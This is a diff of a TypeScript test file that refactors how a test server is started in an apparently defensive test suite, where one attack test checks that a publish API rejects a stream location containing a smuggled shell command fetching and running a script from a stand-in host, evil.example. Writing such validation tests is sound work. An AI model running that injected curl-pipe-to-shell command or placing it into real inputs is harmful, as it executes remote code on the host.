@@ -8,7 +8,7 @@ import { existsSync, readdirSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { test } from "node:test";
 import { STREAM_NAME_EXPECTATION } from "../../src/schema/names.ts";
-import { type RunningBootstream, spawnBootstream, startBootstream } from "../helpers/cli.ts";
+import { type RunningBootstream, spawnBootstream, startServe } from "../helpers/cli.ts";
 import { fixtureJson, fixturePath, fixtureText, tempDir } from "../helpers/fixtures.ts";
 
 // biome-ignore lint/suspicious/noExplicitAny: attacks mutate deep fixture JSON in place.
@@ -238,22 +238,15 @@ test("attack: a release.json artifact location with a pipe -> validate refuses i
 
 test("attack: PUT a stream with a shell-injection location to the publish API -> 422 at the pointer, nothing stored", async () => {
   const root = tempDir("bootstream-hostile-api-");
-  const tokenFile = join(tempDir(), "tokens");
-  writeFileSync(tokenFile, "s3cret-token-for-tests\n");
   let proc: RunningBootstream | undefined;
   try {
-    proc = startBootstream([
-      "serve",
-      "--store",
-      root,
-      "--port",
-      "0",
-      "--token-file",
-      tokenFile,
-      "--log-level",
-      "silent",
-    ]);
-    const url = await proc.waitFor(/http:\/\/127\.0\.0\.1:\d+/, 20_000, "stdout");
+    const { url } = await startServe(root, {
+      tokenFileText: "s3cret-token-for-tests\n",
+      logLevel: "silent",
+      track: (p) => {
+        proc = p;
+      },
+    });
     const doc = fixtureJson<Json>(STABLE);
     isoDisk(doc).location = `${BASE_ISO};curl -s https://evil.example/x|sh;#`;
     const res = await fetch(`${url}/streams/stable.json`, {
